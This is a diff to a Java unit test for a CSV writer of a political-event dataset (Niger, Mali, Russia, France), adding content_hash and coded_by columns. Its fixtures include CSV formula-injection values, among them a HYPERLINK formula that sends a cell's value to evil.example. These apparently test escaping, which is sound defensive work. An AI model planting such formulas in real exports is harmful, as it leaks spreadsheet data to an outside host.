@@ -15,34 +15,34 @@ import org.junit.jupiter.api.io.TempDir;
 class DatasetWriterTest {
 
   static final String ARTICLES = """
-      article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings
-      a1,a1.txt,"Niger, Russia sign deal",2023-12-04,manifest,RFI,https://example.org/a1,10,2,
-      a2,a2.txt," ""Quoted"" title ",,,  Le Monde ,,3,1,'+dateline 2023-12-05;body says 2023-12-01
+      article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings,content_hash
+      a1,a1.txt,"Niger, Russia sign deal",2023-12-04,manifest,RFI,https://example.org/a1,10,2,,
+      a2,a2.txt," ""Quoted"" title ",,,  Le Monde ,,3,1,'+dateline 2023-12-05;body says 2023-12-01,
       """;
 
   // \s keeps the trailing space of m2's text, which a text block would strip; \t is the tab of m3's target_text.
   static final String MENTIONS = """
       mention_id,event_id,article_id,sentence,char_start,char_end,source,target,category,subtype,date,\
-      date_precision,date_text,source_text,target_text,trigger,text
+      date_precision,date_text,source_text,target_text,trigger,text,coded_by
       m1,e1,a1,3,100,160,NER,RUS,cooperation,military,2023-12-04,day,on Monday,Niger,Russia,signed,\
-      "Niger and Russia signed, on Monday, a ""military"" pact."
+      "Niger and Russia signed, on Monday, a ""military"" pact.",coder
       m2,e1,a1,5,200,230,NER,RUS,cooperation,military,2023-12-04,reported,,Niamey,Moscow,deal,\
-       Both sides praised the deal.\s
+       Both sides praised the deal.\s,coder
       m3,e2,a2,1,0,58,MLI,FRA,expulsion,forces,,unknown,,''Mali','\tFrench,'@expelled,\
-      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops."
+      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops.",coder
       """;
 
   static final String EVENTS = """
       event_id,date,date_precision,source,source_name,target,target_name,directed,category,subtype,cameo,\
-      goldstein,plover,mentions,articles,article_ids,first_reported,evidence,evidence_article
+      goldstein,plover,mentions,articles,article_ids,first_reported,evidence,evidence_article,coded_by
       e1,2023-12-04,day,NER,Niger,RUS,Russia,false,cooperation,military,062,7.4,COOPERATE / military,2,1,a1,\
-      2023-12-04,"Niger and Russia signed, on Monday, a ""military"" pact.",a1
+      2023-12-04,"Niger and Russia signed, on Monday, a ""military"" pact.",a1,coder
       e2,,unknown,MLI,Mali,FRA,France,true,expulsion,forces,166,-7.0,SANCTION / expel,1,1,a2,,\
-      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops.",a2
+      "'=HYPERLINK(""http://evil.example/?q=""&A1,""click"") Mali expelled French troops.",a2,coder
       e3,2023-07-01,month,NER,Niger,EU,European Union,true,cooperation,visit,042,1.9,CONSULT / visit,1,2,a1;a2,\
-      2023-12-04,"In July, a delegation visited Brussels.",a1
+      2023-12-04,"In July, a delegation visited Brussels.",a1,coder
       e4,2023-01-01,year,BFA,Burkina Faso,MLI,Mali,false,alliance,formation,057,8.0,SUPPORT (military context),\
-      1,1,a2,,'-Mali and Burkina Faso formed an alliance.,a2
+      1,1,a2,,'-Mali and Burkina Faso formed an alliance.,a2,coder
       """;
 
   @TempDir Path dir;
@@ -74,8 +74,8 @@ class DatasetWriterTest {
     Fixtures.writer().write(new Dataset(articles, List.of(), List.of()), dir);
 
     assertThat(Files.readAllBytes(dir.resolve("articles.csv")))
-        .isEqualTo(("article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings\n"
-            + "a1,a1.txt,Niamey–Moscou : l’été,,,,,1,0,\n").getBytes(StandardCharsets.UTF_8));
+        .isEqualTo(("article_id,file,title,published,published_from,outlet,url,sentences,mentions,warnings,"
+            + "content_hash\na1,a1.txt,Niamey–Moscou : l’été,,,,,1,0,,\n").getBytes(StandardCharsets.UTF_8));
   }
 
   @Test
@@ -153,14 +153,15 @@ class DatasetWriterTest {
 
   @Test
   void headersFollowDatasetMdInOrder() {
+    // DATASET.md's columns, then the ones Entente adds after them
     assertThat(Tables.ARTICLES.columnNames()).containsExactly("article_id", "file", "title", "published",
-        "published_from", "outlet", "url", "sentences", "mentions", "warnings");
+        "published_from", "outlet", "url", "sentences", "mentions", "warnings", "content_hash");
     assertThat(Tables.MENTIONS.columnNames()).containsExactly("mention_id", "event_id", "article_id", "sentence",
         "char_start", "char_end", "source", "target", "category", "subtype", "date", "date_precision", "date_text",
-        "source_text", "target_text", "trigger", "text");
+        "source_text", "target_text", "trigger", "text", "coded_by");
     assertThat(Tables.EVENTS.columnNames()).containsExactly("event_id", "date", "date_precision", "source",
         "source_name", "target", "target_name", "directed", "category", "subtype", "cameo", "goldstein", "plover",
-        "mentions", "articles", "article_ids", "first_reported", "evidence", "evidence_article");
+        "mentions", "articles", "article_ids", "first_reported", "evidence", "evidence_article", "coded_by");
   }
 
   private String read(String name) throws IOException {
